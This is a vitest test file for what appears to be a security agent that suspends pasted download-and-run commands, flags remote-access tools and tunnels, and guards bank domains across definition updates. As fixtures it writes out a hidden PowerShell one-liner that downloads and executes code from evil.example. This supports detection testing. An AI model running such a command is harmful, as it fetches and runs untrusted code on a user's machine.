import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { noUnlistedPolicy } from '@porchlight/contract/unlisted-protection.ts';
import { openFeed } from '@porchlight/definitions/feed.ts';
import { catalogueBytes } from '@porchlight/definitions/feed-make.ts';
import { shippedRecognition } from '@porchlight/definitions/shipped.ts';
import { definitionWith } from '@porchlight/definitions/testing/definition-with.ts';
import { shippedCatalogue } from '@porchlight/definitions/testing/shipped-catalogue.ts';
import { expect, it } from 'vitest';
import { agentForTest, ended, linked, onDisk, serverForTest, type TestAgent } from '../testing/agent.ts';
import { browserOf } from '../testing/browser.ts';
import { ask, queryFor, unusedPort, upstreamForTest } from '../testing/dns.ts';
import { commandWithoutSystem } from '../testing/dns-command.ts';
import { until } from '../testing/until.ts';
import { messages } from '../ui/messages/messages.ts';

const { commands, money, tunnels } = shippedRecognition([]);
const [example] = commands.patterns;
if (!example) throw new Error('there is no pattern');
const newPattern: typeof example = {
  ...example,
  ...{ identifier: 'new-trick', name: 'a pasted new trick', os: ['windows'], programs: ['newtrick'] },
  ...{ started_from: ['desktop'], must: [['fetch-it']], address: 'web' },
};
const formerPattern = commands.patterns.find(({ identifier }) => identifier === 'fetch-into-a-shell');
if (!formerPattern) throw new Error('the pattern of downloads that run is missing');

const start = ({ os }: TestAgent, name: string, line: string) =>
  os.start({
    ...{ name, path: `C:\\Windows\\${name}`, program: { os: 'windows', name } },
    command: { line, args: [], parents: ['explorer.exe'], pipeline: [] },
  });
const startNew = (test: TestAgent) => start(test, 'newtrick.exe', 'newtrick fetch-it https://evil.example/a');
const startFormer = (test: TestAgent) => start(test, 'powershell.exe', 'powershell -w hidden -c "iex (irm https://evil.example/a)"');

it('[P16.1] a set that was just published has a new tool, a new command and a new bank: after the next poll the agent knows them, and all that it knew before', async () => {
  const [server, upstream, port] = [await serverForTest(), await upstreamForTest(), await unusedPort()];
  const own = { address: '127.0.0.1', port };
  const test = await agentForTest(server, {
    sites: { command: commandWithoutSystem, own, page: null, system: false, upstream: [upstream.socketAddress] },
  });
  await test.linked();
  server.setPolicy({
    unlisted: { ...noUnlistedPolicy, pasted_commands: 'block', money: { unanswered: true, sites: [], open: [] } },
  });
  const rests = async (name: string) => (await ask(own, queryFor(name)).catch(() => null))?.addresses[0] !== '192.0.2.1';
  await until('the new bank to open', async () => !(await rests('www.new-bank.example')));
  await until('the known bank to rest', () => rests('www.chase.com'));
  const [newTool, newCommand] = [test.os.start({ name: 'newtool' }), startNew(test)];
  await ended(test, test.os.start({ name: 'anydesk' }));
  expect(test.os.running.has(newTool)).toBe(true);
  expect(test.os.suspended.has(newCommand.pid)).toBe(false);

  server.setDefinitions({
    definitions: [...shippedCatalogue(), definitionWith('new-tool', { programs: { names: [{ os: 'linux', name: 'newtool' }] } })],
    commands: { ...commands, patterns: [...commands.patterns, newPattern] },
    money: [...money, { kind: 'bank', domains: ['new-bank.example'] }],
  });
  await ended(test, newTool);
  await until('the new bank to rest', () => rests('www.new-bank.example'));
  // What ran before the set goes on, as what ran before the agent does.
  expect(test.os.suspended.has(newCommand.pid)).toBe(false);
  const [newTrick, formerTrick] = [startNew(test), startFormer(test)];
  await until('both commands to wait', () => [newTrick, formerTrick].every(({ pid }) => test.os.suspended.has(pid)));
  await ended(test, test.os.start({ name: 'anydesk' }));
  expect(await rests('www.chase.com')).toBe(true);
  expect(await rests('example.org')).toBe(false);
});

it('[P16.1] a set without a pattern of commands lets such a command go, and another pattern goes on to find its own', async () => {
  const { server, test } = await linked();
  server.setDefinitions({ commands: { ...commands, patterns: [...commands.patterns, newPattern] } });
  server.setPolicy({ unlisted: { ...noUnlistedPolicy, pasted_commands: 'block' } });
  await until('the policy', () => server.policy_in_force === server.policy.version);
  const known = [startNew(test), startFormer(test)];
  await until('both commands to wait', () => known.every(({ pid }) => test.os.suspended.has(pid)));
  const polls = server.polls();
  server.setDefinitions({ commands: { ...commands, patterns: [newPattern] } });
  await until('the next poll', () => server.polls() > polls);
  const [newTrick, formerTrick] = [startNew(test), startFormer(test)];
  await until('the new trick to wait', () => test.os.suspended.has(newTrick.pid));
  expect(test.os.suspended.has(formerTrick.pid)).toBe(false);
  expect(test.os.running.has(formerTrick)).toBe(true);
});

it('[P16.1] [P15.3] a mesh VPN that ran when a set first named it is not reported, and another that starts afterwards is', async () => {
  const { server, test } = await linked();
  server.setPolicy({ unlisted: { ...noUnlistedPolicy, doors: 'alert' } });
  await until('the policy', () => server.policy_in_force === server.policy.version);
  const startMesh = (name: string) => test.os.start({ name, path: `/opt/${name}/${name}` });
  startMesh('newmesh');
  const polls = server.polls();
  server.setDefinitions({ tunnels: { ...tunnels, mesh: { ...tunnels.mesh, newmesh: 'New Mesh', othermesh: 'Other Mesh' } } });
  await until('the next poll', () => server.polls() > polls);
  startMesh('othermesh');
  await until('the report', () => server.detections.size > 0);
  startMesh('tailscaled');
  await until('the second report', () => server.detections.size > 1);
  expect([...server.detections.values()].map(({ name }) => name)).toEqual(['A tunnel (Other Mesh)', 'A tunnel (Tailscale)']);
});

it('[P16.1] a stored set in the former format is refused like a damaged one and fetched again; until then the agent recognises nothing and says so', async () => {
  const { server, test } = await linked();
  server.setPolicy({ unlisted: { ...noUnlistedPolicy, pasted_commands: 'block', doors: 'alert' } });
  await until('the policy', () => server.policy_in_force === server.policy.version);
  await test.close();
  const pinned = (await test.store.keys())?.keys.definitions ?? '';
  const former = Buffer.from(JSON.stringify({ definitions: shippedCatalogue() }));
  const feed = server.feed.publish(server.definitions, server.feed.signing(), { catalogue: former });
  await test.store.feed.save(openFeed(pinned, null, feed, new Date()), { catalogue: former, sites: null });
  expect(await test.store.definitions()).toBeNull();

  await server.down();
  const restarted = await agentForTest(server, { folder: test.folder });
  const anydesk = restarted.os.start({ name: 'anydesk' });
  const others = [startFormer(restarted), restarted.os.start({ name: 'ngrok' })];
  expect([anydesk, ...others].filter((one) => !restarted.os.running.has(one) || restarted.os.suspended.has(one.pid))).toEqual([]);
  expect(restarted.agent.ready()).toBe(false);
  expect(await (await browserOf(restarted)).page()).toContain(messages.terminal.noDefinitions);
  expect(await onDisk(restarted)).toEqual([]);
  await server.listen();
  await ended(restarted, anydesk);
  const folder = join(test.folder, 'definitions');
  const partNames = (await readdir(folder)).filter((name) => name.endsWith('.part'));
  const stored = await Promise.all(partNames.map((name) => readFile(join(folder, name))));
  expect(stored).toEqual([Buffer.from(catalogueBytes(shippedRecognition(server.definitions.definitions)))]);
});
